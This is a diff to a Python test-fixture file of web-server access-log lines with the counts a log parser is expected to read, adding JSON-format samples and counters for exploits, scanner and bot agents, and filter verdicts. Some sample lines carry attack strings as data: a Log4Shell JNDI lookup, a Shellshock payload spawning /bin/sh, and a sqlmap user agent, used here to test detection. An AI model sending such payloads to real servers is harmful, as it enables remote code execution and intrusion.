@@ -1,6 +1,6 @@
 """Lines with their answers: (format, line, what is read, or None where the line is malformed)."""
 
-from agent.parse.formats import COMBINED, DOZOR
+from agent.parse.formats import COMBINED, DOZOR, JSON
 
 _BROWSER = b"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
 
@@ -73,12 +73,22 @@ SAMPLES = [
     (
         COMBINED,
         b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://x/a}"',
-        {"injections": 1},
+        {"injections": 1, "exploits": 1, "sensitive": 0},
     ),
     (
         COMBINED,
         b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "() { :; }; /bin/sh" "m"',
         {"injections": 1},
+    ),
+    (
+        COMBINED,
+        b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.8#stable"',
+        {"scanner_agents": 1, "tool_agents": 1, "bot_agents": 0},
+    ),
+    (
+        COMBINED,
+        b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; bingbot/2.0)"',
+        {"scanner_agents": 0, "tool_agents": 0, "bot_agents": 1},
     ),
     (COMBINED, b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET /\xb4\xfa HTTP/1.1" 200 1 "-" "\xff"', {"gets": 1}),
     (
@@ -102,7 +112,23 @@ SAMPLES = [
     (
         DOZOR,
         b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 9 "-" "m" "s" 0.000 "-" 5f "limit"',
-        {"refused": 0, "requests": 1},
+        {"refused": 0, "requests": 1, "passed": 0},
+    ),
+    (
+        DOZOR,
+        b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 9 "-" "m" "s" 0.010 "-" 5f "passed"',
+        {"refused": 0, "requests": 1, "passed": 1, "bytes": 9, "status_2xx": 1},
+    ),
+    (
+        DOZOR,
+        b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 503 9 "-" "m" "s" 0.010 "-" 5f "challenge"',
+        {"refused": 1, "requests": 0, "passed": 0},
+    ),
+    (
+        JSON,
+        b'{"ip":"192.0.2.7","time":"2000-10-10T13:55:36Z","request":"GET / HTTP/1.1","status":200,'
+        b'"dozor_verdict":"passed"}',
+        {"requests": 1, "passed": 1},
     ),
     (COMBINED, b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 2oo 5 "-" "m"', None),
     (COMBINED, b'192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 5x "-" "m"', None),
